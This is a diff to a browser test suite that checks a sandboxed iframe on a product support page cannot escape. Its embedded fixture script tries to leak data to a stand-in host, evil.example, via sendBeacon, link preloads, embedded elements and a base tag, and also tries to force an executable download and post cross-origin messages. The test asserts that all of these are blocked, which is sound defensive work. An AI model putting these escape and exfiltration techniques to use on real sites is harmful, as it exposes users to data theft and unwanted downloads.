@@ -41,6 +41,20 @@ const image = new Image();
 image.onload = () => says("image", "reached"); image.onerror = () => says("image", "refused"); image.src = "https://evil.example/x.png";
 document.body.append(image);
 const form = document.createElement("form"); form.action = "https://evil.example/"; form.target = "_top"; document.body.append(form); if (top !== self) form.submit();
+tries("alert", () => alert("Sign in again"));
+tries("opener", () => opener ?? undefined);
+waits("worker", async () => navigator.serviceWorker.register("/sw.js"));
+tries("beacon", () => void navigator.sendBeacon("https://evil.example/?torque=40"));
+for (const [rel, as] of [["preload", "image"], ["prefetch", ""], ["stylesheet", ""], ["modulepreload", ""], ["icon", ""]]) {
+	const link = document.createElement("link"); link.rel = rel; if (as) link.as = as; link.href = "https://evil.example/" + rel; document.head.append(link);
+}
+for (const name of ["iframe", "embed", "object", "video", "audio", "script"]) {
+	const element = document.createElement(name); element.tabIndex = -1; element[name === "object" ? "data" : "src"] = "https://evil.example/" + name; document.body.append(element);
+}
+const base = document.createElement("base"); base.href = "https://evil.example/"; document.head.append(base);
+const own = document.createElement("iframe"); own.tabIndex = -1; own.src = "/electronics/support/speakers/pebble-20"; document.body.append(own);
+const file = document.createElement("a"); file.download = "torque.exe"; file.href = "data:application/octet-stream,x"; file.click();
+parent.postMessage({ type: "support", href: "https://evil.example/" }, "*");
 document.querySelector("button").onclick = () => { says("click", "worked"); };
 </script>`;
 
@@ -103,9 +117,15 @@ const CLOSED = [
 	"fetch: TypeError",
 	"elsewhere: TypeError",
 	"image: refused",
+	"alert: nothing",
+	"opener: nothing",
+	"beacon: nothing",
+	"worker: SecurityError",
 ];
 
 test("the frame runs its own script with an origin of nobody's, and nothing of it gets out", async () => {
+	const taken: string[] = [];
+	page.on("download", (file) => taken.push(file.suggestedFilename()));
 	await page.goto(ORIGIN + PAGE);
 	await page.locator("iframe").scrollIntoViewIfNeeded();
 	const frame = page.frameLocator("iframe");
@@ -116,7 +136,15 @@ test("the frame runs its own script with an origin of nobody's, and nothing of i
 	});
 	await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
 	expect([page.url(), await page.title(), page.context().pages().length]).toEqual([ORIGIN + PAGE, "Product", 1]);
-	expect(asked).toEqual([]);
+	// No frame of its own either, not even of a page of ours, and no file of its making.
+	expect([
+		asked,
+		taken,
+		page
+			.frames()
+			.slice(2)
+			.filter((each) => each.url().startsWith(ORIGIN)),
+	]).toEqual([[], [], []]);
 });
 
 test("it has its height, its title, and the focus goes in and out of it", async () => {
